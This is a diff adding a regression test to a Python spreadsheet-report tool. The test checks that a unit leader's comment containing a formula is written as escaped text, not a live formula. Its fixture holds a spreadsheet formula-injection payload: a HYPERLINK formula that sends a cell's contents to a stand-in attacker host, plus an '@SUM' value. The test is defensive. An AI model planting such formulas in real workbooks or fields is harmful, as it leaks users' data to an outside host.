@@ -93,3 +93,31 @@ def test_sheet_names_follow_excels_rules_when_captions_repeat_or_hold_forbidden_
         "Lån- fast-flytende -andel--",
     ]
     assert all(len(n) <= 31 for n in names)
+
+
+def test_a_comment_holding_a_formula_is_text_not_a_live_formula(report):
+    """Issue 22: a unit leader's comment became a live HYPERLINK formula in the workbook."""
+    from dataclasses import replace
+
+    from tertial.core.comments import UnitComment
+    from tertial.core.document import CommentsBlock
+
+    evil = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
+    block = next(b for b in report.blocks if isinstance(b, CommentsBlock))
+    sector = block.sectors[0]
+    unit = replace(sector.units[0], comment=UnitComment(ansvar=sector.units[0].code, cause=evil, consequence="@SUM(1)"))
+    doc = replace(
+        report,
+        blocks=tuple(
+            replace(b, sectors=(replace(sector, units=(unit, *sector.units[1:])), *b.sectors[1:])) if b is block else b
+            for b in report.blocks
+        ),
+    )
+    wb = book(doc)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert "'" + evil in texts and "'@SUM(1)" in texts
+    status = wb["Status"]
+    negative = [c.value for row in status.iter_rows() for c in row if isinstance(c.value, int | float) and c.value < 0]
+    assert negative  # an overspending unit's deviation stays a (negative) number
